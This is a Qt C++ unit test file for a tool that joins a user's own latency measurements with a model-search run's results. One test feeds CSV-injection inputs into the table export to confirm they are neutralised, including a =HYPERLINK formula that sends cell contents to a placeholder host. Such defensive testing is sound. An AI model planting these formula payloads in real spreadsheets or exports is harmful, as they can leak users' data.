// SPDX-License-Identifier: GPL-3.0-or-later
// Own measurements joined with a run: a further target a device, everything the run states untouched.
#include "core/trainingrunbuilder.h"
#include "decode/csvtable.h"
#include "decode/measurementsreader.h"
#include "decode/owntargets.h"
#include "decode/resultsdecoder.h"
#include "decode/tabletofillin.h"

#include <QTest>

using namespace paretoscope;
using namespace Qt::StringLiterals;

namespace {

const QByteArray body =
    R"body({"status":"finished","jobType":"nas","recommendedByHardware":{"T4":"acme/b/5/c1"},"models":[
 {"modelId":"acme/b/5/c1","nasFamily":"child","metrics":{"map5095":50,"latency":{"T4":1.5,"x, FP16 (own)":2}}},
 {"modelId":"acme/b/5/c2","nasFamily":"child","metrics":{"map5095":60,"latency":{"T4":3}}},
 {"modelId":"acme/b/5/c3","nasFamily":"child","metrics":{"map5095":70,"latency":{}}}]})body";

TrainingRunPtr statedRun()
{
    const auto decoded = decodeResults(body);
    if (!decoded)
        qFatal("the body of the test is wrong");
    return decoded->run;
}

OwnMeasurement measured(const QString &model, const QString &device, double p50, std::optional<double> p99 = {},
                        const QString &precision = {}, std::optional<int> batch = {}, int line = 2)
{
    return {model, {device, precision, batch}, p50, p99, line};
}

QStringList targetsOf(const TrainingRun &run)
{
    QStringList names;
    for (TargetIndex target = 0; target < run.targetCount(); ++target)
        names.append(run.targetName(target));
    return names;
}

} // namespace

class TestOwnTargets : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void measurements_becomeATargetAfterTheRunsOwn()
    {
        const TrainingRunPtr stated = statedRun();
        const JoinedRun joined = withOwnTargets(*stated, {measured(u"acme/b/5/c2"_s, u"Orin"_s, 4.5, 5.5, u"FP16"_s, 1),
                                                          measured(u"c3"_s, u"Orin"_s, 9, {}, u"FP16"_s, 1)});
        QCOMPARE(targetsOf(*joined.run), QStringList({u"T4"_s, u"x, FP16 (own)"_s, u"Orin, FP16, batch 1 (own)"_s}));
        QCOMPARE(joined.joined, 2U);
        QVERIFY(joined.findings.isEmpty());
        const TargetIndex own = 2;
        QCOMPARE(joined.run->latency(1, own).value, 4.5);
        QCOMPARE(joined.run->p99(1, own).value, 5.5);
        QCOMPARE(joined.run->latency(2, own).value, 9.0);
        QVERIFY(!joined.run->p99(2, own).isUsable());
        QCOMPARE(joined.run->latency(0, own).gap, Gap::NotMeasured);
        QCOMPARE(joined.run->latencyCount(own), 2U);
        QCOMPARE(joined.run->ownConditions(own)->device, u"Orin"_s);
        QVERIFY(!joined.run->ownConditions(0));
    }
    void tableToFillIn_runsNothing_andComesBack_whateverModelsAreCalled()
    {
        const QStringList ids{u"=HYPERLINK(\"http://example.org/?\"&A1,\"x\")"_s,
                              u"+1+1"_s,
                              u"-1-1"_s,
                              u"@SUM(1+1)"_s,
                              u"'quoted"_s,
                              u"=x"_s,
                              u"\t=1"_s,
                              u"a\tb"_s,
                              u"a b"_s,
                              u"a\nb"_s,
                              u"a\r\nb"_s,
                              u"\n#x"_s,
                              u"#remark"_s,
                              u"a\"b"_s,
                              u"\""_s,
                              u"\"a\""_s,
                              u"a,b;c"_s,
                              u" a"_s,
                              u"a "_s,
                              u"a"_s,
                              u"\u00a0a"_s,
                              u"007"_s,
                              u"1e5"_s,
                              u"＝1"_s,
                              u"a\u202eb"_s,
                              u"\ufffea"_s,
                              u"é-🚀"_s,
                              QString(5000, u'x')};
        TrainingRunBuilder builder;
        builder.target(u"T4");
        for (const QString &id : ids)
            builder.addModel(id.toUtf8());
        const TrainingRunPtr run = builder.finish();
        const QString table = tableToFillIn(*run);
        const std::optional<CsvTable> pasted = readCsv(table.toUtf8());
        QVERIFY(pasted);
        QCOMPARE(static_cast<qsizetype>(pasted->lines.size()), ids.size() + 1);
        QString filledIn = u"model;device;precision;batch;p50;p99\r\n"_s; // as a German spreadsheet saves it
        for (qsizetype row = 0; row < ids.size(); ++row) {
            const CsvLine &line = pasted->lines.at(static_cast<std::size_t>(row + 1));
            QCOMPARE(line.cells.size(), 6);
            QString cell = line.cells.first();
            QVERIFY2(!QStringView(u"=+-@＝＋－＠\t\r\n").contains(cell.front()), qPrintable(cell));
            filledIn += u'"' + cell.replace(u'"', u"\"\""_s) + u"\";Orin;;;%1,5;\r\n"_s.arg(row + 1);
        }
        const auto read = readMeasurements(filledIn.toUtf8());
        QVERIFY(read);
        const JoinedRun joined = withOwnTargets(*run, read->rows);
        for (qsizetype row = 0; row < ids.size(); ++row)
            QCOMPARE(joined.run->latency(static_cast<Row>(row), 1).value, static_cast<double>(row) + 1.5);
        QCOMPARE(withOwnTargets(*run, {measured(u"=x"_s, u"Orin"_s, 3)}).run->latency(5, 1).value,
                 3.0); // where it lost its apostrophe
    }
    void cellThatIsAlsoAnotherModelsId_joinsNeither()
    {
        TrainingRunBuilder builder;
        for (const char *const id : {"=x", "'=x"})
            builder.addModel(id);
        QCOMPARE(withOwnTargets(*builder.finish(), {measured(u"'=x"_s, u"Orin"_s, 3)}).joined, 0U);
    }
    void formerIds_joinInTheSampleAlone()
    {
        const QByteArray models =
            R"("models":[{"modelId":"falls-acme-1-t1--00ba18","metrics":{"map5095":50,"latency":{"T4":1.5}}},
            {"modelId":"falls-acme-1-t1--8cabaa","metrics":{"map5095":60,"latency":{"T4":3}}}]})";
        const std::vector<OwnMeasurement> rows{measured(u"falls-before-1-t1--8cabaa"_s, u"Orin"_s, 4.5),
                                               measured(u"stairs-before-1-t1--00ba18"_s, u"Orin"_s, 9)};
        const auto sample = decodeResults(QByteArray(R"({"sample":{"figures":"published"},)" + models));
        const auto other = decodeResults(QByteArray('{' + models));
        QVERIFY(sample && other);
        const JoinedRun joined = withOwnTargets(*sample->run, rows);
        QCOMPARE(joined.joined, 1U);
        QCOMPARE(joined.run->latency(1, 1).value, 4.5);
        QCOMPARE(withOwnTargets(*other->run, rows).joined, 0U);
    }
    void whatTheRunStates_staysAsItWas()
    {
        const TrainingRunPtr stated = statedRun();
        const JoinedRun joined = withOwnTargets(*stated, {measured(u"c1"_s, u"T4"_s, 2)});
        QCOMPARE(targetsOf(*joined.run), QStringList({u"T4"_s, u"x, FP16 (own)"_s, u"T4 (own)"_s}));
        QCOMPARE(stated->targetCount(), 2);
        for (Row row = 0; row < stated->modelCount(); ++row) {
            QCOMPARE(joined.run->modelId(row), stated->modelId(row));
            for (TargetIndex target = 0; target < stated->targetCount(); ++target) {
                QCOMPARE(joined.run->latency(row, target).gap, stated->latency(row, target).gap);
                if (stated->latency(row, target).isUsable())
                    QCOMPARE(joined.run->latency(row, target).value, stated->latency(row, target).value);
            }
        }
        QCOMPARE(joined.run->recommendationFor(0)->row, std::optional<Row>(0));
        QVERIFY(!joined.run->recommendationFor(2));
    }
    void conditions_makeTargets_namesCompareFolded()
    {
        const JoinedRun joined = withOwnTargets(*statedRun(), {measured(u"c1"_s, u"Orin"_s, 1, {}, u"FP16"_s, 1),
                                                               measured(u"c2"_s, u"orin"_s, 2, {}, u"fp16"_s, 1),
                                                               measured(u"c1"_s, u"Orin"_s, 3, {}, u"FP16"_s, 8),
                                                               measured(u"c1"_s, u"Orin"_s, 4)});
        QCOMPARE(targetsOf(*joined.run).mid(2),
                 QStringList({u"Orin, FP16, batch 1 (own)"_s, u"Orin, FP16, batch 8 (own)"_s, u"Orin (own)"_s}));
        QCOMPARE(joined.run->latencyCount(2), 2U);
    }
    void aNameThatTheRunHas_isMadeAnother()
    {
        const JoinedRun joined = withOwnTargets(*statedRun(), {measured(u"c2"_s, u"x"_s, 7, {}, u"FP16"_s)});
        QCOMPARE(targetsOf(*joined.run), QStringList({u"T4"_s, u"x, FP16 (own)"_s, u"x, FP16 (own) 2"_s}));
        QCOMPARE(joined.run->latency(0, 1).value, 2.0);
    }
    void repeats_countByTheirMedian()
    {
        const JoinedRun joined = withOwnTargets(*statedRun(), {measured(u"c1"_s, u"Orin"_s, 9, 10, {}, {}, 4),
                                                               measured(u"c1"_s, u"Orin"_s, 1, {}, {}, {}, 5),
                                                               measured(u"c1"_s, u"Orin"_s, 2, 20, {}, {}, 6),
                                                               measured(u"c2"_s, u"Orin"_s, 4, {}, {}, {}, 7),
                                                               measured(u"c2"_s, u"Orin"_s, 6, {}, {}, {}, 8)});
        QCOMPARE(joined.run->latency(0, 2).value, 2.0);
        QCOMPARE(joined.run->p99(0, 2).value, 15.0);
        QCOMPARE(joined.run->latency(1, 2).value, 5.0);
        QCOMPARE(joined.findings.size(), 2);
        QCOMPARE(joined.findings.at(0), (Finding{Severity::Info, u"own measurements, line 4"_s,
                                                 u"acme/b/5/c1 was measured 3 times there; the median counts."_s}));
    }
    void modelsTheRunDoesNotHave_areNamed()
    {
        const JoinedRun joined = withOwnTargets(
            *statedRun(), {measured(u"c9"_s, u"Orin"_s, 1, {}, {}, {}, 3), measured(u"c1"_s, u"Orin"_s, 1)});
        QCOMPARE(joined.joined, 1U);
        QCOMPARE(joined.findings, Findings({{Severity::Warning, u"own measurements, line 3"_s,
                                             u"The run lists no such model, or several: \"c9\"."_s}}));
        QCOMPARE(withOwnTargets(*statedRun(), {measured(u"c9"_s, u"Orin"_s, 1)}).run->targetCount(), 2);
    }
    void models_joinByWhatPeopleWriteOfTheirIds()
    {
        TrainingRunBuilder builder;
        for (const char *const id :
             {"a/b/5/run-t1--56f9a6", "a/b/5/run-t1--00ba18", "x/run-t2--00ba18", "alone--", "56f9a7"})
            builder.addModel(id);
        const TrainingRunPtr run = builder.finish();
        const auto joins = [&run](const QString &text) {
            return withOwnTargets(*run, {measured(text, u"D"_s, 1)}).joined == 1;
        };
        for (const QString &text : {u"a/b/5/run-t1--56f9a6"_s, u"run-t1--56f9a6"_s, u"56f9a6"_s, u"elsewhere/56f9a6"_s,
                                    u"run-t2--00ba18"_s, u"alone--"_s, u"56f9a7"_s})
            QVERIFY2(joins(text), qPrintable(text));
        for (const QString &text : {u"00ba18"_s, u"f9a6"_s, u"run-t1"_s, u"t1--56f9a6"_s, u"--56f9a6"_s})
            QVERIFY2(!joins(text), qPrintable(text));
    }
    void moreTargetsThanFit_areLeftOutByName()
    {
        std::vector<OwnMeasurement> rows;
        for (int i = 0; i < mostOwnTargets + 1; ++i)
            rows.push_back(measured(u"c1"_s, u"dev%1"_s.arg(i), 1));
        const JoinedRun joined = withOwnTargets(*statedRun(), rows);
        QCOMPARE(joined.run->targetCount(), 2 + mostOwnTargets);
        QCOMPARE(joined.findings.size(), 1);
        QVERIFY(joined.findings.first().what.contains(u"more than 32 targets"_s));
    }
};

QTEST_GUILESS_MAIN(TestOwnTargets)
#include "tst_owntargets.moc"
